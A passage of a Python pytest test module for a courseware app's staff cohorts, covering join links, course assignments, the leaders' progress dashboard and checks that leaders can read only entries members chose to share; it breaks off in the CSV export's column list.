"""Cohorts: joining by link, assignments, the leaders' dashboard, exports, reminders and what leaders may read."""

from __future__ import annotations

import csv
import io
import re
import shutil
import threading
import zipfile
from collections import Counter
from dataclasses import dataclass
from datetime import timedelta
from email import message_from_bytes
from urllib.parse import parse_qs, urlsplit

import pytest
from aiosmtpd.controller import Controller
from pypdf import PdfReader
from sqlalchemy import event, func, insert, select, update
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from courseware import jobs
from courseware.cohorts import services
from courseware.extensions import db
from courseware.models import (
    Assignment,
    CaseStudyResponse,
    Certificate,
    Cohort,
    CohortMember,
    Enrolment,
    Job,
    Organisation,
    PageProgress,
    PracticeEntry,
    QuizAttempt,
    QuizVersion,
    User,
    WorksheetEntry,
)
from courseware.models.base import utcnow
from tests.conftest import EXAMPLE_COURSES, PASSWORD
from tests.helpers import factories
from tests.helpers.html import element_text, links, options, parse, selected_option, table_rows, texts_of
from tests.helpers.sign_up import mailed_link
from tests.test_certificates import complete, pdf_text
from tests.test_jobs import FlakyHandler, _free_port, queued_emails
from tests.test_quizzes import RIGHT, answer
from tests.test_worksheets import PAGE, SAVE

COURSE = "example-course"
FIRST_PAGE = "/courses/example-course/welcome/getting-started"

# --- helpers shared by the cohort test modules -----------------------------------------------------


@dataclass
class World:
    """A district with two schools, a staff cohort in the district, and the cohort's leader."""

    district: Organisation
    school: Organisation
    other_school: Organisation
    cohort: Cohort
    leader: User


def build_world(make_user) -> World:
    district = services.create_organisation("Riverside District")
    school = services.create_organisation("Lincoln Elementary", district)
    other_school = services.create_organisation("Washington Middle", district)
    cohort = services.create_cohort(district, "All staff 2026-27")
    leader = make_user(name="Lee Leader", email="lee@district.org")
    services.grant_leader(leader, cohort=cohort)
    return World(district, school, other_school, cohort, leader)


def signed_in(app, sign_in, user):
    client = app.test_client()
    sign_in(client, user)
    return client


def add_member(cohort: Cohort, user: User, role: str = "", school: Organisation | None = None) -> CohortMember:
    member = services.join(cohort, user)
    member.staff_role, member.school_id = role, school.id if school else None
    db.session.commit()
    return member


def upload_roster(client, cohort_id: int, data: bytes | str, filename: str = "roster.csv"):
    """POST a roster file as a browser would; the body is encoded in memory, as large as it may be."""
    if isinstance(data, str):
        data = data.encode()
    fields = {
        "csrf_token": client.csrf_token("/"),
        "file": FileStorage(io.BytesIO(data), filename, content_type="text/csv"),
    }
    boundary, body = encode_multipart(fields)
    return client.post(
        f"/cohorts/{cohort_id}/roster", data=body, content_type=f"multipart/form-data; boundary={boundary}"
    )


def preview_roster(client, cohort_id: int, data: bytes | str, filename: str = "roster.csv") -> tuple[str, str]:
    """Upload a roster; the preview's address and its page."""
    response = upload_roster(client, cohort_id, data, filename)
    assert response.status_code == 302, (response.status_code, form_errors(text_of(response)))
    url = response.location
    page = client.get(url)
    assert page.status_code == 200
    return url, text_of(page)


def apply_roster(client, url: str, deactivate: bool = False) -> str:
    """Apply an uploaded roster; the summary the leader is shown."""
    response = client.submit(url, {"deactivate_missing": "y"} if deactivate else {})
    assert response.status_code == 302, text_of(response)[:3000]
    page = text_of(client.get(response.location))
    found = [message for message in texts_of(page, ".flash") if message.startswith("Roster applied: ")]
    assert found, page[:3000]
    return found[0]


def import_roster(client, cohort_id: int, data: bytes | str, deactivate: bool = False) -> str:
    url, _ = preview_roster(client, cohort_id, data)
    return apply_roster(client, url, deactivate)


def text_of(response) -> str:
    return response.get_data(as_text=True)


def form_errors(page: str) -> list[str]:
    """The error messages a form page shows, or the start of the page when there are none."""
    messages = []
    for error in parse(page).select("p.field__error"):
        for hidden in error.select(".visually-hidden"):  # "Error: ", for screen readers
            hidden.extract()
        messages.append(element_text(error))
    return messages or [page[:2000]]


def preview_counts(page: str) -> dict[str, int]:
    """The roster preview's counts: {"New": 1, "Updated": 0, ...}."""
    return {element_text(dt): int(element_text(dt.find_next_sibling("dd"))) for dt in parse(page).select("dl.facts dt")}


def problem_rows(page: str) -> list[tuple[int, str, str, str]]:
    """The rows of the preview's table of problems: (line, name, email, problem)."""
    rows = []
    for tr in parse(page).select(".problems-card tbody tr"):
        line, name, email, problem = (element_text(td) for td in tr.select("td"))
        rows.append((int(line), name, email, problem))
    return rows


def status_of(cell) -> str:
    """The status a status dot stands for: "completed" for class="status-dot status-dot--completed"."""
    dot = cell.select_one(".status-dot")
    assert dot is not None, cell
    (status,) = [c.removeprefix("status-dot--") for c in dot["class"] if c.startswith("status-dot--")]
    return status


def member_rows(page: str) -> list[dict]:
    """The dashboard's table of members, one dict a row: the text of each cell, the status of its dot,
    the scores shown, and the addresses the certificate and shared-entries cells link to."""
    rows = []
    for tr in parse(page).select("table.member-table tbody tr"):
        header = tr.select_one('th[scope="row"]')
        if header is None:  # "No member matches these filters."
            continue
        status, progress, hours, scores, certificate, shared = tr.select("td")

        def part(cell, name: str) -> str:
            found = cell.select_one(f".member-table__{name}")
            return element_text(found) if found is not None else ""

        rows.append(
            {
                "name": element_text(header.select_one("a")),
                "email": part(header, "email"),
                "unconfirmed": part(header, "unconfirmed"),
                "role": part(header, "role"),
                "school": part(header, "school"),
                "status": status_of(status),
                "percent": part(progress, "percent").removesuffix("%"),
                "recorded": part(progress, "time").removesuffix(" recorded"),
                "practice": part(progress, "practice").removesuffix(" practice counted"),
                "case_studies": part(progress, "cases"),
                "hours": element_text(hours).removesuffix(" h"),
                "ledger_links": links(header),
                "activity": part(status, "activity").removeprefix("Last active "),
                "scores": [element_text(s).split(" ")[-1] for s in scores.select(".score")],
                "score_labels": texts_of(scores, ".score__label"),
                "certificate": element_text(certificate),
                "certificate_links": links(certificate),
                "shared": element_text(shared),
                "shared_links": links(shared),
            }
        )
    return rows


def status_counts(page: str) -> dict[str, int]:
    """The dashboard's count of members in each status."""
    return {status_of(li): int(element_text(li.select_one("strong"))) for li in parse(page).select(".status-counts li")}


def assign(client, cohort_id: int, due_on, course: str = COURSE, renewal_months: str = "", replace_existing=""):
    data = {"course": course, "due_on": due_on.isoformat(), "renewal_months": renewal_months}
    if replace_existing:
        data["replace_existing"] = replace_existing
    return client.submit(f"/cohorts/{cohort_id}/assignments", data, page="/")


def dashboard_url(cohort_id: int, assignment_id: int) -> str:
    return f"/cohorts/{cohort_id}/assignments/{assignment_id}"


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), data[:20]
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"))))


# --- fixtures --------------------------------------------------------------------------------------


@pytest.fixture
def world(app, make_user) -> World:
    return build_world(make_user)


@pytest.fixture
def leader_client(app, world, sign_in):
    return signed_in(app, sign_in, world.leader)


@dataclass
class Staff:
    """Three members of the world's cohort: one who has not started, one part-way, one done."""

    nia: User
    ian: User
    cal: User
    clients: dict[str, object]


@pytest.fixture
def staff(app, world, make_user, sign_in) -> Staff:
    """Set up directly (tests/helpers/factories.py); test_progress_made_through_the_pages_shows_on_the_dashboard
    makes the same progress through the app's pages."""
    nia = make_user(name="Nia Notstarted", email="nia@district.org")
    ian = make_user(name="Ian Inprogress", email="ian@district.org")
    cal = make_user(name="Cal Completed", email="cal@district.org")
    add_member(world.cohort, nia, "Teacher", world.school)
    add_member(world.cohort, ian, "Counselor", world.other_school)
    add_member(world.cohort, cal, "Teacher", world.other_school)
    an_hour_ago = utcnow() - timedelta(hours=1)
    factories.enrolment(ian, pages=["welcome/getting-started", "practice/check"], at=an_hour_ago)
    factories.quiz_attempt(ian, score=50, at=an_hour_ago)
    factories.quiz_attempt(ian, score=75, at=an_hour_ago)
    factories.completed(cal, pdf=None)  # the PDF is rendered when it is first downloaded
    clients = {user.email: signed_in(app, sign_in, user) for user in (nia, ian, cal)}
    return Staff(nia, ian, cal, clients)


def the_assignment(cohort: Cohort) -> Assignment:
    db.session.expire_all()
    return db.session.scalar(select(Assignment).where(Assignment.cohort_id == cohort.id))


@pytest.fixture
def assigned(world) -> Assignment:
    """The example course assigned to the world's cohort, due in 30 days (assigning through the
    cohort page is tested in test_assigning_a_course_and_changing_its_due_date)."""
    return factories.assignment(world.cohort, COURSE, utcnow().date() + timedelta(days=30))


# --- joining by link -------------------------------------------------------------------------------


def test_a_signed_in_person_joins_with_the_link(world, learner_client, learner):
    code = world.cohort.join_code
    page = learner_client.get(f"/join/{code}")
    assert page.status_code == 200
    assert "Join “All staff 2026-27”" in text_of(page) and "Riverside District" in text_of(page)
    assert db.session.scalar(select(func.count(CohortMember.id))) == 0  # opening the link joins nobody

    response = learner_client.submit(f"/join/{code}")
    assert response.status_code == 302 and response.location == "/"
    assert "You joined “All staff 2026-27”" in text_of(learner_client.get("/"))
    (member,) = db.session.scalars(select(CohortMember))
    assert (member.cohort_id, member.user_id, member.active) == (world.cohort.id, learner.id, True)

    learner_client.submit(f"/join/{code}")  # joining twice is harmless
    assert db.session.scalar(select(func.count(CohortMember.id))) == 1


def test_the_join_link_sends_an_anonymous_visitor_to_sign_in(world, client, learner, sign_in):
    code = world.cohort.join_code
    response = client.get(f"/join/{code}")
    assert response.status_code == 302
    location = urlsplit(response.location)
    assert location.path == "/sign-in" and parse_qs(location.query) == {"next": [f"/join/{code}"]}
    response = client.submit(f"/sign-in?next=/join/{code}", {"email": learner.email, "password": PASSWORD})
    assert response.status_code == 302 and response.location == f"/join/{code}"
    assert client.get(f"/join/{code}").status_code == 200


def test_a_rotated_link_stops_working_and_the_new_one_works(world, leader_client, learner_client):
    old = world.cohort.join_code
    response = leader_client.submit(f"/cohorts/{world.cohort.id}/join-code", {"action": "rotate"}, page="/")
    assert response.status_code == 302
    db.session.expire_all()
    new = db.session.get(Cohort, world.cohort.id).join_code
    assert new and new != old
    assert new in text_of(leader_client.get(f"/cohorts/{world.cohort.id}"))

    stale = learner_client.get(f"/join/{old}")
    assert stale.status_code == 404
    assert "This join link does not work" in text_of(stale)
    assert learner_client.submit(f"/join/{old}", page="/").status_code == 404
    assert db.session.scalar(select(func.count(CohortMember.id))) == 0

    assert learner_client.get(f"/join/{new}").status_code == 200
    assert learner_client.submit(f"/join/{new}").status_code == 302
    assert db.session.scalar(select(func.count(CohortMember.id))) == 1


def test_a_disabled_link_is_a_404_until_it_is_enabled_again(world, leader_client, learner_client):
    code = world.cohort.join_code
    url = f"/cohorts/{world.cohort.id}/join-code"
    assert leader_client.submit(url, {"action": "disable"}, page="/").status_code == 302
    assert "The join link is off" in text_of(leader_client.get(f"/cohorts/{world.cohort.id}"))
    closed = learner_client.get(f"/join/{code}")
    assert closed.status_code == 404 and "This join link does not work" in text_of(closed)
    assert learner_client.submit(f"/join/{code}", page="/").status_code == 404
    assert db.session.scalar(select(func.count(CohortMember.id))) == 0

    assert leader_client.submit(url, {"action": "enable"}, page="/").status_code == 302
    db.session.expire_all()
    assert db.session.get(Cohort, world.cohort.id).join_code == code  # the same link works again
    assert learner_client.get(f"/join/{code}").status_code == 200
    assert learner_client.submit(f"/join/{code}").status_code == 302
    assert db.session.scalar(select(func.count(CohortMember.id))) == 1


def test_an_unknown_join_code_is_a_friendly_404(learner_client):
    response = learner_client.get("/join/not-a-code")
    assert response.status_code == 404 and "This join link does not work" in text_of(response)


def test_someone_without_an_account_signs_up_from_the_link_and_comes_back_to_it(world, client):
    code = world.cohort.join_code
    sign_in_page = client.get(client.get(f"/join/{code}").location)
    found = links(sign_in_page.get_data(as_text=True), 'a[href^="/sign-up?next="]')
    assert found, "the sign-in page offers to create an account"
    sign_up = found[0]
    data = {"name": "Nell Newcomer", "email": "nell@district.org", "password": PASSWORD, "confirm": PASSWORD}
    assert client.submit(sign_up, data).status_code == 200  # "check your email"
    response = client.submit(mailed_link("nell@district.org"))
    assert response.status_code == 302 and response.location == f"/join/{code}"
    assert "Join “All staff 2026-27”" in text_of(client.get(response.location))
    assert client.submit(f"/join/{code}").status_code == 302
    (member,) = db.session.scalars(select(CohortMember))
    assert db.session.get(User, member.user_id).email == "nell@district.org"
    assert (member.staff_role, member.school_id) == ("", None)


def test_the_link_brings_back_a_deactivated_member(world, learner_client, learner):
    member = add_member(world.cohort, learner, "Teacher", world.school)
    member.active, member.deactivated_at = False, utcnow()
    db.session.commit()
    assert learner_client.submit(f"/join/{world.cohort.join_code}").status_code == 302
    db.session.expire_all()
    member = db.session.scalar(select(CohortMember))
    assert member.active and member.deactivated_at is None
    assert (member.staff_role, member.school_id) == ("Teacher", world.school.id)


def test_a_join_code_action_that_does_not_exist_is_refused(world, leader_client):
    response = leader_client.submit(f"/cohorts/{world.cohort.id}/join-code", {"action": "explode"}, page="/")
    assert response.status_code == 400


# --- assignments -----------------------------------------------------------------------------------


@pytest.fixture
def two_courses(make_app, tmp_path):
    """The example course and a second one whose title sorts first: "Aardvark basics"."""
    courses = tmp_path / "two-courses"
    shutil.copytree(EXAMPLE_COURSES / COURSE, courses / COURSE)
    shutil.copytree(EXAMPLE_COURSES / COURSE, courses / "aardvark")
    yml = courses / "aardvark" / "course.yml"
    yml.write_text(yml.read_text().replace("title: Example course", "title: Aardvark basics"))
    app = make_app(COURSES_DIR=courses)
    with app.app_context():
        yield app


def catalog_titles(page: str) -> list[str]:
    return texts_of(page, "h2.course-card__title a")


def test_assigning_a_course_and_changing_its_due_date(world, leader_client):
    due = utcnow().date() + timedelta(days=45)
    response = assign(leader_client, world.cohort.id, due)
    assert response.status_code == 302
    assignment = the_assignment(world.cohort)
    assert (assignment.course_slug, assignment.due_on, assignment.renewal_months) == (COURSE, due, None)
    assert response.location == dashboard_url(world.cohort.id, assignment.id)
    page = text_of(leader_client.get(response.location))
    assert "The course is assigned" in page and due.strftime("%-d %B %Y") in page

    later = due + timedelta(days=10)
    response = assign(leader_client, world.cohort.id, later, renewal_months="12")  # a change: asked first
    assert response.status_code == 200
    page = text_of(response)
    assert "Change the assignment?" in page and "already assigned" in page
    assert due.strftime("%-d %B %Y") in page and later.strftime("%-d %B %Y") in page and "every 12 months" in page
    assert the_assignment(world.cohort).due_on == due  # nothing changed yet
    response = assign(leader_client, world.cohort.id, later, renewal_months="12", replace_existing="yes")
    assert response.status_code == 302 and response.location == dashboard_url(world.cohort.id, assignment.id)
    assert db.session.scalar(select(func.count(Assignment.id))) == 1
    assignment = the_assignment(world.cohort)
    assert (assignment.due_on, assignment.renewal_months) == (later, 12)
    show = text_of(leader_client.get(f"/cohorts/{world.cohort.id}"))
    assert f"due {later.strftime('%-d %B %Y')}" in show and "renewed every 12 months" in show
    response = assign(leader_client, world.cohort.id, later, renewal_months="12")  # the same again: nothing to ask
    assert response.status_code == 302
    assert "nothing has changed" in text_of(leader_client.get(response.location))


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ({"course": COURSE, "due_on": ""}, "Enter the date the course is due"),
        ({"course": "no-such-course", "due_on": "2030-01-31"}, "Not a valid choice"),
        ({"course": COURSE, "due_on": "2030-01-31", "renewal_months": "0"}, "Use a number of months from 1 to 60"),
    ],
    ids=["no-date", "unknown-course", "bad-renewal"],
)
def test_an_assignment_form_with_a_mistake_is_shown_again(world, leader_client, data, message):
    response = leader_client.submit(f"/cohorts/{world.cohort.id}/assignments", data, page="/")
    assert response.status_code == 422
    assert message in text_of(response)
    assert db.session.scalar(select(func.count(Assignment.id))) == 0


def test_learners_see_assigned_courses_first_with_their_due_date(two_courses, make_user, sign_in):
    district = services.create_organisation("Riverside District")
    cohort = services.create_cohort(district, "All staff")
    member = make_user(name="Mo Member", email="mo@district.org")
    outsider = make_user(name="Oli Outsider", email="oli@district.org")
    add_member(cohort, member)
    member_client = signed_in(two_courses, sign_in, member)
    outsider_client = signed_in(two_courses, sign_in, outsider)
    assert catalog_titles(text_of(member_client.get("/"))) == ["Aardvark basics", "Example course"]

    due = utcnow().date() + timedelta(days=20)
    services.assign(cohort, COURSE, due, None)
    page = text_of(member_client.get("/"))
    assert catalog_titles(page) == ["Example course", "Aardvark basics"]
    assert f"Assigned to you · due {due.strftime('%-d %B %Y')}" in page
    assert "(overdue)" not in page
    other = text_of(outsider_client.get("/"))
    assert catalog_titles(other) == ["Aardvark basics", "Example course"] and "Assigned to you" not in other


def test_the_earliest_due_date_of_two_cohorts_is_shown(world, make_user, app, sign_in):
    member = make_user(name="Mo Member", email="mo@district.org")
    other = services.create_cohort(db.session.get(Organisation, world.district.id), "New teachers")
    add_member(world.cohort, member)
    add_member(other, member)
    soon, later = utcnow().date() + timedelta(days=5), utcnow().date() + timedelta(days=50)
    services.assign(world.cohort, COURSE, later, None)
    services.assign(other, COURSE, soon, None)
    page = text_of(signed_in(app, sign_in, member).get("/"))
    assert f"Assigned to you · due {soon.strftime('%-d %B %Y')}" in page
    assert later.strftime("%-d %B %Y") not in page


def test_a_past_due_date_shows_overdue_on_the_catalog_until_completed(world, make_user, app, sign_in):
    member = make_user(name="Mo Member", email="mo@district.org")
    add_member(world.cohort, member)
    client = signed_in(app, sign_in, member)
    due = utcnow().date() - timedelta(days=3)
    services.assign(world.cohort, COURSE, due, None)
    page = text_of(client.get("/"))
    assert f"Assigned to you · due {due.strftime('%-d %B %Y')} (overdue)" in page
    assert "assigned--overdue" in page
    factories.completed(member)
    page = text_of(client.get("/"))
    assert "Assigned to you" in page and "(overdue)" not in page


def test_a_deactivated_member_no_longer_sees_the_assignment(world, make_user, app, sign_in):
    member = make_user(name="Mo Member", email="mo@district.org")
    row = add_member(world.cohort, member)
    client = signed_in(app, sign_in, member)
    services.assign(world.cohort, COURSE, utcnow().date() + timedelta(days=5), None)
    assert "Assigned to you" in text_of(client.get("/"))
    row.active = False
    db.session.commit()
    assert "Assigned to you" not in text_of(client.get("/"))


# --- the dashboard ---------------------------------------------------------------------------------


def test_the_dashboard_shows_every_status(world, staff, leader_client, assigned):
    url = dashboard_url(world.cohort.id, assigned.id)
    page = text_of(leader_client.get(url))
    rows = {r["name"]: r for r in member_rows(page)}
    assert {name: r["status"] for name, r in rows.items()} == {
        "Cal Completed": "completed",
        "Ian Inprogress": "in-progress",
        "Nia Notstarted": "not-started",
    }
    assert status_counts(page) == {"not-started": 1, "in-progress": 1, "completed": 1, "revoked": 0, "overdue": 0}
    assert rows["Cal Completed"]["percent"] == "100" and rows["Nia Notstarted"]["percent"] == "0"
    assert 0 < int(rows["Ian Inprogress"]["percent"]) < 100
    assert rows["Cal Completed"]["email"] == "cal@district.org"
    assert (rows["Ian Inprogress"]["role"], rows["Ian Inprogress"]["school"]) == ("Counselor", "Washington Middle")
    assert "3 active members" in page

    response = assign(leader_client, world.cohort.id, utcnow().date() - timedelta(days=1), replace_existing="yes")
    assert response.location == url  # the same assignment, now past its due date
    page = text_of(leader_client.get(url))
    assert {r["name"]: r["status"] for r in member_rows(page)} == {
        "Cal Completed": "completed",
        "Ian Inprogress": "overdue",
        "Nia Notstarted": "overdue",
    }
    assert status_counts(page) == {"not-started": 0, "in-progress": 0, "completed": 1, "revoked": 0, "overdue": 2}


def test_members_who_never_confirmed_their_email_address_are_marked(world, staff, leader_client, assigned, make_user):
    staff.cal.email_verified_at = utcnow()  # confirmed; Nia and Ian never were (invited, or from before)
    db.session.commit()
    url = dashboard_url(world.cohort.id, assigned.id)
    rows = {r["name"]: r["unconfirmed"] for r in member_rows(text_of(leader_client.get(url)))}
    assert rows == {
        "Cal Completed": "",
        "Ian Inprogress": "email not confirmed",
        "Nia Notstarted": "email not confirmed",
    }
    header, *lines = read_csv(leader_client.get(url + ".csv").data)
    assert {line[0]: line[header.index("Email confirmed")] for line in lines} == {
        "Cal Completed": "yes",
        "Ian Inprogress": "no",
        "Nia Notstarted": "no",
    }

    few, _ = queries_for(leader_client, url)
    for n in range(12):
        person = make_user(name=f"Extra {n}", email=f"extra{n}@district.org")
        person.email_verified_at = utcnow() if n % 2 else None
        add_member(world.cohort, person, "Teacher")
    many, response = queries_for(leader_client, url)
    assert sum(r["unconfirmed"] == "email not confirmed" for r in member_rows(text_of(response))) == 2 + 6
    assert many == few  # read with the members, not one question per member


def test_progress_made_through_the_pages_shows_on_the_dashboard(app, world, leader_client, make_user, sign_in):
    """The ``staff`` fixture's progress, made as learners make it: pages read, quizzes answered."""
    people = {name: make_user(name=name, email=f"{name.split()[0].lower()}@district.org")
              for name in ("Nia Notstarted", "Ian Inprogress", "Cal Completed")}  # fmt: skip
    for person in people.values():
        add_member(world.cohort, person, "Teacher", world.school)
    ian = signed_in(app, sign_in, people["Ian Inprogress"])
    ian.get(FIRST_PAGE)
    answer(ian, {**RIGHT, "q-sky": "green", "q-boiling": "false"})  # 50%
    answer(ian, {**RIGHT, "q-sky": "green"})  # 75%
    complete(signed_in(app, sign_in, people["Cal Completed"]))
    assignment = factories.assignment(world.cohort)
    page = text_of(leader_client.get(dashboard_url(world.cohort.id, assignment.id)))
    rows = {r["name"]: r for r in member_rows(page)}
    assert {name: (r["status"], r["percent"], r["scores"]) for name, r in rows.items()} == {
        "Cal Completed": ("completed", "100", ["100%"]),
        "Ian Inprogress": ("in-progress", "40", ["75%"]),  # the first page, and the quiz's page
        "Nia Notstarted": ("not-started", "0", []),
    }
    code = db.session.scalar(select(Certificate.code).where(Certificate.user_id == people["Cal Completed"].id))
    assert rows["Cal Completed"]["certificate_links"] == [f"/verify/{code}"] and rows["Cal Completed"]["hours"] == "1"
    assert status_counts(page) == {"not-started": 1, "in-progress": 1, "completed": 1, "revoked": 0, "overdue": 0}


def test_nobody_is_overdue_on_the_due_date_itself(world, staff, leader_client):
    services.assign(world.cohort, COURSE, utcnow().date(), None)
    page = text_of(leader_client.get(dashboard_url(world.cohort.id, the_assignment(world.cohort).id)))
    assert status_counts(page) == {"not-started": 1, "in-progress": 1, "completed": 1, "revoked": 0, "overdue": 0}


def year_before(moment):
    try:
        return moment.replace(year=moment.year - 1)
    except ValueError:  # 29 February
        return moment.replace(year=moment.year - 1, day=28)


def move_completion(user: User, completed_at) -> None:
    db.session.execute(update(Enrolment).where(Enrolment.user_id == user.id).values(completed_at=completed_at))
    db.session.execute(update(Certificate).where(Certificate.user_id == user.id).values(completed_at=completed_at))
    db.session.commit()


def test_a_completion_counts_for_the_renewal_period_only(world, staff, leader_client, make_user, app, sign_in):
    dee = make_user(name="Dee Done", email="dee@district.org")
    add_member(world.cohort, dee, "Teacher", world.school)
    factories.completed(dee)
    services.assign(world.cohort, COURSE, utcnow().date() + timedelta(days=30), 12)
    url = dashboard_url(world.cohort.id, the_assignment(world.cohort).id)
    anniversary = year_before(utcnow())
    move_completion(staff.cal, anniversary)  # exactly 12 months ago: run out today
    move_completion(dee, anniversary + timedelta(days=1))  # runs out tomorrow
    page = text_of(leader_client.get(url))
    statuses = {r["name"]: r["status"] for r in member_rows(page)}
    assert statuses["Dee Done"] == "completed"
    assert statuses["Cal Completed"] != "completed"
    assert status_counts(page)["completed"] == 1
    assert "Remind those not done (3)" in page
    zip_names = zipfile.ZipFile(io.BytesIO(leader_client.get(url + "/certificates.zip").get_data())).namelist()
    assert [name.split(" - ")[0] for name in zip_names] == ["Dee Done"]

    services.assign(world.cohort, COURSE, utcnow().date() - timedelta(days=1), 12)
    statuses = {r["name"]: r["status"] for r in member_rows(text_of(leader_client.get(url)))}
    assert (statuses["Cal Completed"], statuses["Dee Done"]) == ("overdue", "completed")


def test_the_status_counts_cover_every_member_whatever_the_filter(world, staff, leader_client, assigned):
    url = dashboard_url(world.cohort.id, assigned.id)
    everyone = status_counts(text_of(leader_client.get(url)))
    for query in ("?status=completed", "?role=Counselor", "?school=Lincoln+Elementary&status=overdue"):
        assert status_counts(text_of(leader_client.get(url + query))) == everyone


def test_best_quiz_scores_and_the_certificate_link(world, staff, leader_client, assigned):
    rows = {r["name"]: r for r in member_rows(text_of(leader_client.get(dashboard_url(world.cohort.id, assigned.id))))}
    assert rows["Ian Inprogress"]["scores"] == ["75%"]
    assert rows["Cal Completed"]["scores"] == ["100%"]
    assert rows["Nia Notstarted"]["scores"] == []
    code = db.session.scalar(select(Certificate.code).where(Certificate.user_id == staff.cal.id))
    assert rows["Cal Completed"]["certificate_links"] == [f"/verify/{code}"]
    assert rows["Ian Inprogress"]["certificate"] == "—" and rows["Nia Notstarted"]["certificate"] == "—"
    assert rows["Cal Completed"]["hours"] == "1"
    verify = leader_client.get(f"/verify/{code}")
    assert verify.status_code == 200 and "Cal Completed" in text_of(verify)


def names_in(client, url: str) -> list[str]:
    response = client.get(url)
    assert response.status_code == 200
    return [r["name"] for r in member_rows(text_of(response))]


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("", ["Cal Completed", "Ian Inprogress", "Nia Notstarted"]),
        ("?sort=name&order=desc", ["Nia Notstarted", "Ian Inprogress", "Cal Completed"]),
        ("?sort=status", ["Nia Notstarted", "Ian Inprogress", "Cal Completed"]),
        ("?sort=status&order=desc", ["Cal Completed", "Ian Inprogress", "Nia Notstarted"]),
        ("?sort=progress&order=desc", ["Cal Completed", "Ian Inprogress", "Nia Notstarted"]),
        ("?sort=role", ["Ian Inprogress", "Cal Completed", "Nia Notstarted"]),
        ("?sort=school", ["Nia Notstarted", "Cal Completed", "Ian Inprogress"]),
        ("?sort=activity&order=desc", ["Cal Completed", "Ian Inprogress", "Nia Notstarted"]),
        ("?status=completed", ["Cal Completed"]),
        ("?status=in-progress", ["Ian Inprogress"]),
        ("?status=not-started", ["Nia Notstarted"]),
        ("?status=overdue", []),
        ("?role=Teacher", ["Cal Completed", "Nia Notstarted"]),
        ("?role=Counselor", ["Ian Inprogress"]),
        ("?school=Washington+Middle", ["Cal Completed", "Ian Inprogress"]),
        ("?school=Lincoln+Elementary&role=Teacher", ["Nia Notstarted"]),
        ("?school=Washington+Middle&role=Teacher&status=completed", ["Cal Completed"]),
        ("?role=Principal", []),
        ("?sort=nonsense&status=nonsense", ["Cal Completed", "Ian Inprogress", "Nia Notstarted"]),
    ],
    ids=lambda v: v if isinstance(v, str) else None,
)
def test_sorting_and_filtering_the_dashboard(world, staff, leader_client, assigned, query, expected):
    assert names_in(leader_client, dashboard_url(world.cohort.id, assigned.id) + query) == expected


def test_the_filters_offer_the_cohort_roles_and_schools(world, staff, leader_client, assigned):
    page = text_of(leader_client.get(dashboard_url(world.cohort.id, assigned.id) + "?role=Teacher"))
    assert options(page, "select#role") == ["All", "Counselor", "Teacher"]
    assert selected_option(page, "select#role") == "Teacher"
    assert options(page, "select#school") == ["All", "Lincoln Elementary", "Washington Middle"]
    assert selected_option(page, "select#school") is None
    assert "No member matches these filters." in text_of(
        leader_client.get(dashboard_url(world.cohort.id, assigned.id) + "?role=Principal")
    )


def test_deactivated_members_are_left_out_of_the_dashboard(world, staff, leader_client, assigned):
    db.session.execute(update(CohortMember).where(CohortMember.user_id == staff.nia.id).values(active=False))
    db.session.commit()
    page = text_of(leader_client.get(dashboard_url(world.cohort.id, assigned.id)))
    assert [r["name"] for r in member_rows(page)] == ["Cal Completed", "Ian Inprogress"]
    assert "1 deactivated not shown" in page
    assert sum(status_counts(page).values()) == 2


# --- shared worksheet entries ----------------------------------------------------------------------


PRIVATE_TEXT = "Nobody but me may read this plan"
SHARED_TEXT = "Happy to show my leader this plan"


@pytest.fixture
def entries(world, staff):
    """Nia keeps her plan private; Ian shares his (saving and sharing are tested in test_worksheets)."""
    private = factories.worksheet_answers(staff.nia, "my-plan", {"first-try": PRIVATE_TEXT})
    shared = factories.worksheet_answers(staff.ian, "my-plan", {"first-try": SHARED_TEXT}, shared=True)
    return private.id, shared.id


def test_only_shared_entries_are_listed_and_readable(
    app, world, staff, entries, leader_client, assigned, make_user, sign_in
):
    private_id, shared_id = entries
    url = dashboard_url(world.cohort.id, assigned.id)
    page = text_of(leader_client.get(url))
    rows = {r["name"]: r for r in member_rows(page)}
    assert rows["Ian Inprogress"]["shared_links"] == [f"/entries/{shared_id}"]
    assert rows["Ian Inprogress"]["shared"] == "My plan"
    assert rows["Nia Notstarted"]["shared"] == "—"
    assert f"/entries/{private_id}" not in page

    shared = leader_client.get(f"/entries/{shared_id}")
    assert shared.status_code == 200
    assert SHARED_TEXT in text_of(shared) and "Shared with you by Ian Inprogress" in text_of(shared)
    assert leader_client.get(f"/entries/{private_id}").status_code == 404

    leader_pages = [
        url,
        url + "?sort=status",
        url + ".csv",
        f"/cohorts/{world.cohort.id}",
        "/cohorts",
        f"/entries/{shared_id}",
        f"/entries/{private_id}",
    ]
    for path in leader_pages:
        assert PRIVATE_TEXT not in text_of(leader_client.get(path)), path

    district = db.session.get(Organisation, world.district.id)
    other_cohort = services.create_cohort(district, "Bus drivers")
    other_leader = make_user(name="Olu Otherleader", email="olu@district.org")
    services.grant_leader(other_leader, cohort=other_cohort)
    other_client = signed_in(app, sign_in, other_leader)
    assert other_client.get(f"/entries/{shared_id}").status_code == 404
    assert other_client.get(f"/entries/{private_id}").status_code == 404


def test_an_admin_reads_shared_entries_only(app, staff, entries, make_user, sign_in):
    private_id, shared_id = entries
    admin = signed_in(app, sign_in, make_user(name="Adm Admin", email="adm@district.org", role="admin"))
    assert admin.get(f"/entries/{shared_id}").status_code == 200
    assert admin.get(f"/entries/{private_id}").status_code == 404


def test_a_shared_entry_is_no_longer_readable_once_unshared(world, staff, entries, leader_client):
    _, shared_id = entries
    ian_client = staff.clients[staff.ian.email]
    assert ian_client.submit(SAVE + "/share", {"shared": "no"}, page=PAGE).status_code == 302
    assert leader_client.get(f"/entries/{shared_id}").status_code == 404


def test_a_deactivated_members_shared_entry_is_not_readable(world, staff, entries, leader_client):
    _, shared_id = entries
    db.session.execute(update(CohortMember).where(CohortMember.user_id == staff.ian.id).values(active=False))
    db.session.commit()
    assert leader_client.get(f"/entries/{shared_id}").status_code == 404


# --- the CSV export --------------------------------------------------------------------------------

CSV_HEADER = [
    "Name",
    "Email",
    "Email confirmed",
    "Staff role",
    "School",
    "Status",
    "Progress %",
    "Pages read",
    "Reading minutes",
    "Practice minutes",
    "Case studies done",
    "Average self-score %",
    "Hours earned",
